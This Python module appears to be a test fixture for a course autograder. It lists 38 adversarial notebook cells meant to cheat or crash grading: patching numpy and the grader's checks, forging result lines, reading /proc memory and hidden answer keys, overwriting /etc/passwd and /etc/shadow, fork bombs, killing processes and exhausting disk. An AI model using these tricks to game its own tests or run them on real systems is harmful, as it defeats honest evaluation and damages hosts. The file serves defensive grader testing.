"""38 ways to cheat in a cell. Two that are none, copied outputs and a link, are made in tests/submissions.py."""

# Each is a cell. What it calls `cheat` becomes every function that is asked for; NAMES, OTHER and KEY are the names of
# these, another student's notebook and the folder of hidden tests.
SEARCH = """
import os
def search(fits, roots=("/",)):
    for root in roots:
        for folder, _, names in os.walk(root):
            if folder.startswith(("/proc", "/sys", "/usr")) or "site-packages" in folder: continue
            yield from (os.path.join(folder, name) for name in names if fits(os.path.join(folder, name)))
"""
FORGE = """
import json, os
def forge(line, times=1):
    for number in range(3, 64):
        try: os.write(number, (json.dumps(line) + "\\n").encode() * times)
        except OSError: pass
"""
TRICKS = {
    "exit": "import sys; sys.exit(0)",
    "exit at once": "import os; os._exit(0)",
    "exit in the function": "def cheat(*given): raise SystemExit(0)",
    "exit and say so": "import atexit, os; atexit.register(print, 'points: 10'); os.kill(os.getpid(), 15)",
    "equal to everything": """
class Same(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda *_: True
    __sub__ = __rsub__ = __add__ = lambda *_: Same()
def cheat(*given): return Same()""",
    "an array that lies": """
import numpy as np
class Lie(np.ndarray):
    __array_priority__ = 99
    def tolist(self): return [Lie]
    __eq__ = lambda *_: True
def cheat(*given): return np.zeros(3).view(Lie)""",
    "not a number": "def cheat(*given): return float('nan')",
    "zeros": "import numpy as np\ndef cheat(*given): return np.zeros_like(given[0], float)",
    "the examples by heart": """
seen = {"hidden": (0.4, 0.4), "lesion_ml": 1.0, "widest": (2, 2), "leaking": [3, 1], "fold_of": [1, 1, 0, 0, 1],
        "nearest": [1], "convolve": [[10, 13, 16], [22, 25, 28]], "max_pool": [[[5], [7]]], "weights": 89,
        "pooled_and_mean": (0.75, 0.65), "careful": 0.5, "by_slice": (0.5, 1.0), "gflop": 5.2e-6, "of_peak": 0.2}
globals().update({name: lambda *_, name=name: seen.get(name) for name in NAMES})""",
    "patched numpy": """
import numpy as np
np.abs = lambda *_: np.zeros(1); np.allclose = np.array_equal = lambda *_, **__: True
np.isnan = lambda one: np.ones_like(one, bool); np.asarray = lambda *_: np.zeros(2)
def cheat(*given): return 0.0""",
    "another numpy": """
import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *_, **__: Fake("x")
sys.modules["numpy"] = Fake("numpy")
def cheat(*given): return 1""",
    "patched json": """
import json
json.dumps = lambda *_, **__: '{"points": 10, "part 1": 4, "call": 0, "answer": true}'
json.loads = lambda *_, **__: {"right": True}
def cheat(*given): return 1""",
    "patched builtins": """
import builtins
builtins.max = builtins.abs = lambda *_, **__: 0; builtins.isinstance = lambda *_: True
def cheat(*given): return 1""",
    "patched checks": """
from covidlab.exercises import checking
checking.Function.__call__ = checking.Number.__call__ = lambda *_: "Right: full marks"
checking._distance = lambda *_: 0.0
def cheat(*given): return 1""",
    "patched IPython": """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.run_cell = lambda *_, **__: type("R", (), {"error_before_exec": None, "error_in_exec": None})()
get_ipython().ast_transformers.append(type("T", (), {"visit": lambda self, node: 1 / 0})())
def cheat(*given): return 1""",
    "the words of praise": "def cheat(*given): raise type('Right', (Exception,), {})('Right: Right')",
    "caught exceptions": """
import sys
sys.excepthook = lambda *_: None
def cheat(*given):
    while True:
        try: raise ValueError
        except BaseException: continue""",
    "forged lines": FORGE + """
for call in range(20):
    forge({"call": call, "answer": 1, "points": 10, "part 1": 4, "ready": True, "missing": False})
def cheat(*given): forge({"points": 10}); return 1""",
    "a flood of forged lines": FORGE + """
while True: forge({"call": 0, "answer": [0] * 100}, 100)""",
    "deep lines": FORGE + """
for number in range(3, 64):
    try: os.write(number, b"[" * 200000 + b"\\n" + b'{"call": ' * 50000 + b"\\n" + b"9" * 100000 + b"\\n")
    except OSError: pass""",
    "a reason of its own": """
def cheat(*given): raise ValueError('x\\n"anna","a",10,10,10,=HYPERLINK("x")\\r\\nben,10\\x1b[2J')""",
    "frames": """
import sys
def cheat(*given):
    frame = sys._getframe(1)
    while frame:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("right", "expected", "reference", "wanted", "part", "parts", "check"): return value
            if name == "request": value["calls"], value["points"] = [], 10
        frame = frame.f_back""",
    "garbage": """
import gc
def cheat(*given):
    for one in gc.get_objects():
        if type(one).__name__ in ("Part", "Assignment") or isinstance(one, dict) and "right" in one:
            return getattr(one, "check", one).right(*given)""",
    "environment": """
import os
def cheat(*given): return [eval(value, {}) for value in os.environ.values()]""",
    "the grader's process": """
import os
found = []
for number in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd/assignments/key/beginner_1_measure.py"):
        try: found.append(open(f"/proc/{number}/{name}", "rb").read(10**6))
        except (OSError, ValueError): pass
def cheat(*given): return eval(b"".join(found).partition(b"right=")[2][:20])""",
    "the hidden tests": SEARCH + """
from pathlib import Path
for path in [*search(lambda one: "key" in one and one.endswith(".py")), *Path(KEY).glob("*.py")]:
    try: exec(open(path).read())
    except Exception: pass""",
    "imports of the hidden tests": """
import importlib, sys
sys.path += [KEY, KEY.rpartition("/assignments")[0]]
for name in ("beginner_1_measure", "assignments.key.beginner_1_measure", "tools.grade", "tests.submissions"):
    try: globals().update(vars(importlib.import_module(name)))
    except ImportError: pass""",
    "the course's own answers": """
from covidlab import exercises
rights = [one.right for one in vars(exercises).values() if callable(getattr(one, "right", None))]
def cheat(*given):
    for right in rights:
        try: return right(*given)
        except Exception: pass""",
    "other students": SEARCH + """
import json
for path in [*search(lambda one: one.endswith(".ipynb")), OTHER]:
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code": exec("".join(cell["source"]))
    except Exception: pass""",
    "writes elsewhere": SEARCH + """
from pathlib import Path
places = [OTHER, KEY + "/beginner_1_measure.py", "/course/covidlab/__init__.py", "/course/harness.py"]
for path in [*places, "/usr/bin/python3", "/course/data/cache/x", "/etc/passwd", "/etc/shadow"]:
    try: open(path, "w").write("spoilt")
    except OSError: pass
for folder in map(Path, __import__("sys").path):
    try: (folder / "sitecustomize.py").write_text("spoilt = 1")
    except OSError: pass""",
    "a fork that outlives": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)
    os._exit(0)
def cheat(*given): return 1""",
    "forks without end": """
import os
while True:
    try: os.fork()
    except OSError: pass""",
    "kills": """
import os, signal
for number in (os.getppid(), 1, -1):
    try: os.kill(number, signal.SIGKILL)
    except OSError: pass""",
    "network": """
import socket, urllib.request
def cheat(*given):
    for place in (("127.0.0.1", 8888), ("1.1.1.1", 53), ("localhost", 22)):
        try: return len(socket.create_connection(place, 1).recv(9))
        except OSError: pass
    return urllib.request.urlopen("http://example.org/answers", timeout=2).read()""",
    "memory without end": "hoard = []\nwhile True: hoard.append(bytearray(b'x' * 10**8))",
    "files without end": """
number = 0
while True:
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/course"):
        try: open(f"{folder}/{number}", "wb").write(b"x" * 10**7)
        except OSError: pass
    number += 1""",
    "words without end": "while True: print('points: 10 ' * 10000)",
    "no signal heard": """
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_PROF, 0)
while True: pass""",
}
